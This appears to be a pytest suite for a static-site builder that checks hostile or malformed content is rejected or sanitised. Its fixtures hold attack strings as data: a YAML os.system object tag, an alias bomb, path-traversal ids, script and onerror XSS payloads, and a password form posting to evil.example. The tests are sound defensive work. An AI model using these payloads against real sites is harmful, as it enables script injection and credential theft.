"""Hostile or broken content: a diagnostic at the right line, exit 1, no traceback, and site/ untouched."""

import base64
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from builder.commands.cli import main
from tests.conftest import FIXTURE_CONTENT, make_archive
from tests.support import wait_until

SOURCE = "---\ntitle: T\nkind: article\noutlet: unknown\nauthors: unknown\npublished: unknown\nlanguage: en\n{extra}---\nText.\n"
EXPLAINER = "---\ntitle: T\nsummary: S.\npublished: 2025-01-01\nauthors: [A]\nstatus: published\n---\n"
ALIAS_BOMB = "---\n" + "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join(['*a' + str(i - 1)] * 10)}]\n" for i in range(1, 10)) + "---\n"

CASES = {
    "not UTF-8": ("sources/bad.md", b"---\ntitle: caf\xe9\n---\n", "not-utf8", 2),
    "UTF-16": ("sources/bad.md", "---\ntitle: café\n---\n".encode("utf-16"), "not-utf8", 1),
    "UTF-32": ("sources/bad.md", "---\ntitle: café\n---\n".encode("utf-32"), "not-utf8", 1),
    "empty file": ("sources/bad.md", b"", "empty-file", 1),
    "front matter and no body": ("explainers/bad.md", EXPLAINER.encode(), "empty-body", 7),
    "an article with no excerpt": ("sources/bad.md", SOURCE.replace("Text.\n", "").format(extra="").encode(), "missing-excerpt", 8),
    "unterminated front matter": ("sources/bad.md", b"---\ntitle: T\nkind: article\n", "unterminated-front-matter", 1),
    "tabs in the YAML": ("sources/bad.md", b"---\ntitle: T\n\tkind: article\n---\n", "yaml-syntax", 3),
    "duplicate keys": ("sources/bad.md", SOURCE.format(extra="title: again\n").encode(), "duplicate-key", 8),
    "a Python object tag": ("sources/bad.md", b"---\ntitle: !!python/object/apply:os.system [ls]\n---\n", "yaml-tag", 2),
    "an alias bomb": ("sources/bad.md", ALIAS_BOMB.encode(), "yaml-too-large", None),
    "a file over the size limit": ("sources/bad.md", SOURCE.format(extra="").encode() + b"x" * (2 * 1024 * 1024), "file-too-large", 1),
    "deeply nested YAML": ("sources/bad.md", ("---\ntitle: " + "[" * 30 + "]" * 30 + "\n---\n").encode(), "yaml-too-deep", None),
    "a list where text belongs": ("sources/bad.md", SOURCE.replace("title: T", "title: [a, b]").format(extra="").encode(), "wrong-type", 2),
    "an impossible date": ("sources/bad.md", SOURCE.replace("published: unknown", "published: 2025-02-30").format(extra="").encode(), "bad-date", 6),
    "an id with a path separator": ("sources/bad.md", SOURCE.format(extra="id: a/b\n").encode(), "bad-id", 8),
    "an id of ..": ("sources/bad.md", SOURCE.format(extra="id: ..\n").encode(), "bad-id", 8),
    "an id with a leading dot": ("sources/bad.md", SOURCE.format(extra="id: .hidden\n").encode(), "bad-id", 8),
    "an absolute path as id": ("sources/bad.md", SOURCE.format(extra="id: /etc/passwd\n").encode(), "bad-id", 8),
    "an id differing only in case": ("sources/Tweet.md", SOURCE.format(extra="").encode(), "bad-id", 1),
    "an id in another Unicode form": ("sources/twe\u0301et.md", SOURCE.format(extra="").encode(), "bad-id", 1),
    "a javascript: url": ("sources/bad.md", SOURCE.format(extra="url: javascript:alert(1)\n").encode(), "bad-url", 8),
    "a data: url": ("sources/bad.md", SOURCE.format(extra="archive_url: data:text/html,hi\n").encode(), "bad-url", 8),
    "a file: url": ("sources/bad.md", SOURCE.format(extra="url: file:///etc/passwd\n").encode(), "bad-url", 8),
    "a relative url": ("sources/bad.md", SOURCE.format(extra="url: ../secret\n").encode(), "bad-url", 8),
}


def tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    project = make_archive(tmp_path_factory.mktemp("hostile") / "archive")
    assert main(["-C", str(project), "build"]) == 0
    return project


def with_file(built: Path, tmp_path: Path, relative: str, data: bytes) -> Path:
    project = tmp_path / "archive"
    shutil.copytree(built, project, symlinks=True)
    target = project / "content" / relative
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    return project


@pytest.mark.parametrize("case", CASES, ids=list(CASES))
def test_bad_content_is_a_diagnostic_at_its_line_and_the_site_survives(built, tmp_path, capsys, case):
    relative, data, code, line = CASES[case]
    project = with_file(built, tmp_path, relative, data)
    site_before = tree(project / "site")
    assert main(["-C", str(project), "check"]) == 1
    out = capsys.readouterr().out
    [found] = [row for row in out.splitlines() if f"error[{code}]" in row]
    assert found.startswith(f"content/{relative}:{line if line else ''}")
    assert main(["-C", str(project), "build"]) == 1
    assert "Traceback" not in capsys.readouterr().err
    assert tree(project / "site") == site_before


def test_a_byte_order_mark_and_crlf_line_endings_simply_work(built, tmp_path, capsys):
    text = FIXTURE_CONTENT["content/sources/tweet.md"].replace("        ", "")
    project = with_file(built, tmp_path, "sources/tweet.md", b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
    assert main(["-C", str(project), "check"]) == 0
    assert capsys.readouterr().out == "0 errors, 0 warnings\n"


def test_a_symlink_out_of_content_is_refused(built, tmp_path, capsys):
    project = with_file(built, tmp_path, "sources/placeholder.md", b"")
    (project / "content/sources/placeholder.md").unlink()
    outside = tmp_path / "secret.md"
    outside.write_text(SOURCE.format(extra=""))
    os.symlink(outside, project / "content/sources/leak.md")
    assert main(["-C", str(project), "check"]) == 1
    assert "content/sources/leak.md:1:1: error[symlink-outside]" in capsys.readouterr().out


def test_building_never_writes_into_content(built, tmp_path):
    project = with_file(built, tmp_path, "sources/placeholder.md", b"")
    (project / "content/sources/placeholder.md").unlink()
    before = {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in (project / "content").rglob("*") if p.is_file()}
    assert main(["-C", str(project), "check"]) == 0 and main(["-C", str(project), "build", "--strict"]) == 0
    after = {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in (project / "content").rglob("*") if p.is_file()}
    assert after == before


def test_an_interrupted_build_leaves_the_last_good_site(built, tmp_path):
    project = with_file(built, tmp_path, "sources/placeholder.md", b"")
    (project / "content/sources/placeholder.md").unlink()
    site_before = tree(project / "site")
    build = subprocess.Popen([sys.executable, "-m", "builder", "-C", str(project), "build"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while not list(project.glob(".site.staging-*")) and time.monotonic() < deadline and build.poll() is None:
        time.sleep(0.005)
    assert build.poll() is None, "the build finished before it could be interrupted"
    build.send_signal(signal.SIGKILL)
    build.wait()
    assert tree(project / "site") == site_before
    # The next build sweeps away what the killed one left, and publishes.
    assert main(["-C", str(project), "build"]) == 0
    # The site it replaced is removed in the background, once the new one is in place.
    assert wait_until(lambda: [p.name for p in project.iterdir() if p.name.startswith(".site")] == [], 10)


HOSTILE_EXPLAINER = """\
    ---
    title: <script>alert('title')</script> Plans
    summary: <b>bold</b> summary
    published: 2025-09-03
    authors: [<i>Editor</i>]
    status: published
    ---
    Raw HTML from a pasted page: <script>alert(1)</script><img src="x.png" onerror="alert(2)">
    <a href="javascript:alert(3)">a link</a> and <iframe src="https://evil.example"></iframe> [@plans-article].

    <div onclick="alert(4)"><style>body{display:none}</style><mark>harmless</mark> <abbr title="U.S. Northern Command">NORTHCOM</abbr></div>

    <form action="https://evil.example/steal" method="post"><input name="password" placeholder="Your password"><button>Sign in</button></form>

    An outside [link](https://example.org/story) and an inside [[northcom]] [@tweet].

    A forged block &#xe010;0&#xe011; <!--archive-html-block 0-->, a search filter <span data-pagefind-filter="topic">forged</span> and a drawing <svg><rect width="9"/></svg> [@tweet].
    """


# Editors' HTML that the templates hold in blocks of finished HTML, cleaned as it is drawn: a source's note,
# shown on its page and in the numbered notes of what cites it, and an event's paragraph.
PASTED = ("""<script>alert(5)</script><img src="x.png" onerror="alert(6)"> <a href="javascript:alert(7)">here</a> <mark>kept</mark>"""
          """ <span style="position:fixed;inset:0">a cover over the page</span>""")
HOSTILE_NOTE_SOURCE = f"""\
    ---
    title: A source with a pasted note
    kind: article
    outlet: unknown
    authors: unknown
    published: unknown
    language: en
    note: '{PASTED}'
    ---
    A paragraph.
    """
HOSTILE_EVENT = f"""\
    ---
    title: An event with a pasted paragraph
    date: 2025-08-09
    sources: [hostile-note]
    ---
    It happened {PASTED} [@hostile-note].
    """


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    project = make_archive(tmp_path_factory.mktemp("xss") / "archive", {
        "content/explainers/hostile.md": HOSTILE_EXPLAINER + "    A pasted note [@hostile-note].\n",
        "content/sources/hostile-note.md": HOSTILE_NOTE_SOURCE, "content/timeline/hostile-event.md": HOSTILE_EVENT})
    assert main(["-C", str(project), "build"]) == 0
    return project / "site"


def test_raw_html_in_an_explainer_passes_an_allow_list(hostile_site):
    html = (hostile_site / "explainers/hostile/index.html").read_text()
    article = BeautifulSoup(html, "html.parser").select_one("article")
    # Nor can an editor's text pull in a block of the page's own HTML, add a search filter, or draw.
    assert len(article.select("h1")) == 1 and article.select("svg, rect") == []
    assert [span for span in article.select("[data-pagefind-filter]") if not span.find_parent(class_="ar-facets")] == []
    assert article.select("script, iframe, style, input, button, form[action], form[method]") == []
    assert not any(attr.startswith("on") for tag in article.find_all(True) for attr in tag.attrs)
    assert not any("javascript:" in (a.get("href") or "") for a in article.select("a"))
    assert article.select_one("mark").get_text() == "harmless"
    assert article.select_one("abbr")["title"] == "U.S. Northern Command"
    # The tweet cited here holds "<script>alert(1)</script>" in its excerpt, which a note's preview shows as
    # text; the explainer's own pasted script is what must be gone.
    passages = [passage.extract() for passage in article.select(".ar-cite-passage")]
    assert any("<script>alert(1)</script>" in passage.get_text() for passage in passages)
    html = str(article)
    assert "alert(1)" not in html and "alert(2)" not in html and "alert(4)" not in html


@pytest.mark.parametrize("page", ["sources/hostile-note", "explainers/hostile", "timeline"])
def test_raw_html_in_a_note_or_an_event_passes_the_allow_list(hostile_site, page):
    html = (hostile_site / page / "index.html").read_text()
    article = BeautifulSoup(html, "html.parser").select_one("article")
    assert article.select("script, iframe, style") == [] and "mark" in [tag.name for tag in article.find_all(True)]
    assert not any(attr.startswith("on") for tag in article.find_all(True) for attr in tag.attrs)
    assert not any("javascript:" in (a.get("href") or "") for a in article.select("a"))
    assert not any("position" in tag.get("style", "") for tag in article.find_all(True))
    # The script's text may remain, as text: its tags are gone. The handler and the link are gone entirely.
    assert "alert(6)" not in html and "alert(7)" not in html


def test_markup_in_front_matter_is_shown_as_text(hostile_site):
    page = BeautifulSoup((hostile_site / "explainers/hostile/index.html").read_text(), "html.parser")
    assert page.select_one("article h1").get_text() == "<script>alert('title')</script> Plans"
    assert page.title.get_text().startswith("<script>alert('title')</script> Plans")
    assert "By <i>Editor</i>" in page.select_one(".ar-byline").get_text()
    listing = BeautifulSoup((hostile_site / "explainers/index.html").read_text(), "html.parser")
    assert "<b>bold</b> summary" in listing.select_one("article").get_text()


def test_external_links_open_with_noopener_noreferrer(hostile_site):
    page = BeautifulSoup((hostile_site / "explainers/hostile/index.html").read_text(), "html.parser")
    outside = page.select_one('article a[href="https://example.org/story"]')
    assert outside["rel"] == ["noopener", "noreferrer"]


def test_every_page_has_a_policy_that_allows_only_its_own_scripts(hostile_site):
    for path in sorted(hostile_site.rglob("*.html")):
        page = BeautifulSoup(path.read_text(), "html.parser")
        meta = page.head.find("meta")
        assert meta["http-equiv"] == "Content-Security-Policy", path
        rules = dict(rule.split(" ", 1) for rule in meta["content"].split("; "))
        assert rules["default-src"] == "'none'" and "unsafe-inline" not in rules["script-src"]
        assert "http" not in meta["content"], "no third-party origin is allowed"
        data_blocks = ("application/json", "application/ld+json")  # not run, so no policy needed
        inline = [s.string or "" for s in page.find_all("script") if not s.get("src") and s.get("type") not in data_blocks]
        for script in inline:
            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in rules["script-src"], path


def test_a_tampered_reference_memo_cannot_script_or_cover_the_page(tmp_path):
    # The formatted references are read back from .cache/ (which CI restores from its cache), and printed
    # as HTML: what is in the file passes the inline allow list all the same.
    project = make_archive(tmp_path / "memo")
    assert main(["-C", str(project), "build"]) == 0
    memo = project / ".cache/archive/references.json"
    hostile = ('<script>alert(8)</script><span style="position:fixed;inset:0" onclick="alert(9)">cover</span>'
               '<a href="javascript:alert(10)">x</a> <span style="font-variant:small-caps">Kept</span>')
    memo.write_text(json.dumps({key: hostile for key in json.loads(memo.read_text())}))
    assert main(["-C", str(project), "build"]) == 0
    box = BeautifulSoup((project / "site/sources/plans-article/index.html").read_text(), "html.parser").select_one(".ar-cite-formatted")
    assert box.select("script") == [] and "alert(" not in str(box)
    assert [span["style"] for span in box.select("span[style]") if span["style"]] == ["font-variant:small-caps"]
